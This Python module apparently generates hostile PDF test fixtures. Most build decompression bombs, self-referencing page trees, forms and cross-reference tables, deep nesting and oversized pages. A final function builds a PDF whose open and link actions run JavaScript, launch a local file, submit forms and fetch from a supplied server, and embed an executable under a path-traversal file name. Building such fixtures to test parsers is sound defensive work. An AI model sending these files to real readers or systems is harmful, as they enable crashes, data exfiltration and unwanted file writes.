"""Documents made to harm whoever opens them: they swell, never end, or want something executed, fetched or written.

Each is small, and written byte by byte, since no library would write most of them.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Sequence

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F1 12 Tf 72 700 Td (annual report) Tj ET 100 100 200 200 re S"
GIGABYTE = 1 << 30


def pdf_of(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A PDF with these objects, numbered from 1, the first of them the catalogue."""
    data = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    data += b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(data)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object's body, as it is."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), entries, data)


def page_pdf(
    *,
    content: bytes = stream(_TEXT),
    box: bytes = b"[0 0 595 842]",
    page: bytes = b"",
    resources: bytes = b"",
    catalogue: bytes = b"",
    extra: Sequence[bytes] = (),
) -> bytes:
    """A PDF of one page, its content object 4 and its font object 5; `extra` objects begin with number 6."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalogue,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %b >> %b >>"
            % (box, resources, page),
            content,
            _FONT,
            *extra,
        ]
    )


def huge_page(points: float) -> bytes:
    """A page of so many points across and down."""
    return page_pdf(box=b"[0 0 %b %b]" % ((b"%f" % points,) * 2))


def flate_bomb(size: int = 4 * GIGABYTE, layers: int = 1) -> bytes:
    """A page's content that expands to so many bytes, compressed so many times."""
    packing = zlib.compressobj(9)
    block = b" " * (1 << 20)
    data = b"".join(packing.compress(block) for _ in range(size >> 20)) + packing.flush()
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    return page_pdf(content=stream(data, b"/Filter [%b]" % (b"/FlateDecode " * layers)))


def image_bomb(side: int = 60_000) -> bytes:
    """A page that is one image of so many pixels across and down, a few kilobytes in the file."""
    packing = zlib.compressobj(9)
    row = bytes(side // 8)
    data = b"".join(packing.compress(row) for _ in range(side)) + packing.flush()
    entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 1" % (side, side)
    return page_pdf(
        content=stream(b"595 0 0 842 0 0 cm /Im Do"),
        resources=b"/XObject << /Im 6 0 R >>",
        extra=[stream(data, entries + b" /ColorSpace /DeviceGray /Filter /FlateDecode")],
    )


def endless_pages() -> bytes:
    """A page tree that holds itself."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1000000 /Parent 2 0 R >>",
        ]
    )


def million_pages(count: int = 1_000_000) -> bytes:
    """A page tree that has the same page a million times."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%b] /Count %d >>" % (b"3 0 R " * count, count),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def deep_arrays(depth: int = 100_000) -> bytes:
    """Arrays within arrays, in a page's entries."""
    return page_pdf(page=b"/Deep %b%b" % (b"[" * depth, b"]" * depth))


def deep_dictionaries(depth: int = 100_000) -> bytes:
    """Dictionaries within dictionaries, in the catalogue."""
    return page_pdf(catalogue=b"/Deep " + b"<</A " * depth + b"1" + b">>" * depth)


def deep_content(depth: int = 100_000) -> bytes:
    """Arrays within arrays in a page's content, and states saved and never restored."""
    return page_pdf(content=stream(b"q " * depth + b"[" * depth + b"]" * depth + b" TJ " + _TEXT))


def deep_pages(depth: int = 20_000) -> bytes:
    """A page tree as deep as a well."""
    nodes = [
        b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (number - 1, number + 1)
        for number in range(2, depth + 2)
    ]
    leaf = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (depth + 1)
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, leaf])


def deep_forms(depth: int = 20_000) -> bytes:
    """Forms that draw forms."""
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /Fm %d 0 R >> >>"
    forms = [stream(b"/Fm Do", entries % number) for number in range(7, depth + 7)]
    return page_pdf(
        content=stream(b"/Fm Do"),
        resources=b"/XObject << /Fm 6 0 R >>",
        extra=[*forms, stream(_TEXT, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]")],
    )


def branching_forms(depth: int = 30) -> bytes:
    """Each form draws the next one ten times."""
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /Fm %d 0 R >> >>"
    forms = [stream(b"/Fm Do " * 10, entries % number) for number in range(7, depth + 7)]
    return page_pdf(
        content=stream(b"/Fm Do " * 10),
        resources=b"/XObject << /Fm 6 0 R >>",
        extra=[*forms, stream(_TEXT, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]")],
    )


def looping_form() -> bytes:
    """A form that draws itself."""
    resources = b"/Resources << /XObject << /Fm 6 0 R >> >>"
    form = stream(b"/Fm Do", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + resources)
    return page_pdf(content=stream(b"/Fm Do"), resources=b"/XObject << /Fm 6 0 R >>", extra=[form])


def looping_xref() -> bytes:
    """An index whose predecessor is itself."""
    document = page_pdf()
    start = document.rindex(b"xref\n0 ")
    return document.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def looping_objects() -> bytes:
    """References that lead to themselves: a length, a font, a content."""
    return page_pdf(
        content=b"<< /Length 6 0 R >>\nstream\nq Q\nendstream",
        resources=b"/XObject 7 0 R",
        extra=[b"6 0 R", b"8 0 R", b"7 0 R"],
    )


def looping_object_stream() -> bytes:
    """An object stream that extends itself and claims to hold what it is itself."""
    return page_pdf(
        page=b"/Extra 6 0 R",
        extra=[stream(b"6 0 7 10 << >> << >>", b"/Type /ObjStm /N 2000000000 /First 8 /Extends 6 0 R")],
    )


def huge_string(size: int = 1 << 27) -> bytes:
    """A page that shows one string of so many letters, packed."""
    packed = zlib.compress(b"BT /F1 12 Tf 72 700 Td (" + b"1" * size + b") Tj ET", 9)
    return page_pdf(content=stream(packed, b"/Filter /FlateDecode"))


def many_lines(count: int = 1_000_000) -> bytes:
    """A page that is ruled by a million lines."""
    lines = b"".join(b"%d %d m %d %d l S\n" % (i % 595, i % 842, i % 595 + 30, i % 842) for i in range(count))
    return page_pdf(content=stream(zlib.compress(lines), b"/Filter /FlateDecode"))


def fine_grid(lines: int = 3_000) -> bytes:
    """A page with a table of millions of cells."""
    across = b"".join(b"0 %f m 595 %f l S\n" % ((842 * i / lines,) * 2) for i in range(lines))
    down = b"".join(b"%f 0 m %f 842 l S\n" % ((595 * i / lines,) * 2) for i in range(lines))
    return page_pdf(content=stream(zlib.compress(across + down), b"/Filter /FlateDecode"))


def wide_grid(lines: int = 3_000) -> bytes:
    """A table of millions of cells, each large enough for a letter, on a page that is as large as a wall."""
    side = 5 * lines
    across = b"".join(b"0 %d m %d %d l S\n" % (5 * i, side, 5 * i) for i in range(lines))
    down = b"".join(b"%d 0 m %d %d l S\n" % (5 * i, 5 * i, side) for i in range(lines))
    packed = zlib.compress(across + down)
    return page_pdf(box=b"[0 0 %d %d]" % (side, side), content=stream(packed, b"/Filter /FlateDecode"))


def broken_font() -> bytes:
    """A font whose program is noise, and whose widths and map are no such things."""
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 2000000000 /Widths [(a)] "
    return page_pdf(
        resources=b"/XObject << >>",
        extra=[
            font + b"/FontDescriptor << /Type /FontDescriptor /FontFile2 7 0 R >> /ToUnicode 8 0 R >>",
            stream(bytes(range(256)) * 40),
            stream(
                b"1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00> <ffffffff> <0030> endbfrange"
            ),
        ],
    ).replace(b"/F1 5 0 R", b"/F1 6 0 R")


MONSTERS: dict[str, Callable[[], bytes]] = {
    "page of 14,400 points": lambda: huge_page(14_400),
    "page of 1e6 points": lambda: huge_page(1e6),
    "page of 1e15 points": lambda: huge_page(1e15),
    "page without size": lambda: huge_page(0),
    **{
        each.__name__: each
        for each in (
            flate_bomb,
            image_bomb,
            endless_pages,
            million_pages,
            deep_arrays,
            deep_dictionaries,
            deep_content,
            deep_pages,
            deep_forms,
            branching_forms,
            looping_form,
            looping_xref,
            looping_objects,
            looping_object_stream,
            huge_string,
            many_lines,
            fine_grid,
            wide_grid,
            broken_font,
        )
    },
    "flate_bomb, packed twice": lambda: flate_bomb(layers=2),
}
"""Documents that swell or never end, by name."""


def reaching_out(address: str, path: str, *, elsewhere: bool) -> bytes:
    """A page that asks to run scripts and programs, to send and to fetch.

    address: of a server, http://…; path: of a file; elsewhere: whether an image and a form of the page lie there, which
    some libraries refuse to read at all.
    """
    url, file = address.encode(), path.encode()
    script = b"app.launchURL('%b/js'); this.submitForm('%b/form'); this.exportDataObject('a')" % (url, url)
    actions = [
        b"<< /S /JavaScript /JS (%b) >>" % script,
        b"<< /S /URI /URI (%b/uri) >>" % url,
        b"<< /S /Launch /F (%b) /Unix (%b) >>" % (file, file),
        b"<< /S /GoToR /F << /Type /Filespec /FS /URL /F (%b/remote.pdf) >> /D [0 /Fit] >>" % url,
        b"<< /S /SubmitForm /F << /FS /URL /F (%b/submit) >> >>" % url,
        b"<< /S /ImportData /F (%b) >>" % file,
    ]
    chained = b"<< /S /JavaScript /JS (%b) /Next [%b] >>" % (script, b" ".join(actions))
    fetched = b"/F << /Type /Filespec /FS /URL /F (%b/image) >>" % url if elsewhere else b""
    shown = b"/F (%b)" % file if elsewhere else b""
    image = b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray "
    form = b"<< /XFA 8 0 R /Fields [] >>"
    return page_pdf(
        content=stream(_TEXT + b" q 99 0 0 99 0 0 cm /Im Do Q /Fm Do"),
        catalogue=b"/OpenAction %b /AcroForm %b /Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> "
        b"/JavaScript << /Names [(b) %b] >> >>" % (chained, form, actions[0]),
        page=b"/AA << /O %b >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %b >>]"
        % (chained, actions[1]),
        resources=b"/XObject << /Im 6 0 R /Fm 7 0 R >>",
        extra=[
            stream(b"", image + fetched),
            stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + shown),
            stream(b"<xdp:xdp xmlns:xdp='x'><script>xfa.host.gotoURL('%b/xfa')</script></xdp:xdp>" % url),
            b"<< /Type /Filespec /F (../../written.exe) /EF << /F 10 0 R >> >>",
            stream(b"MZ", b"/Type /EmbeddedFile"),
        ],
    )
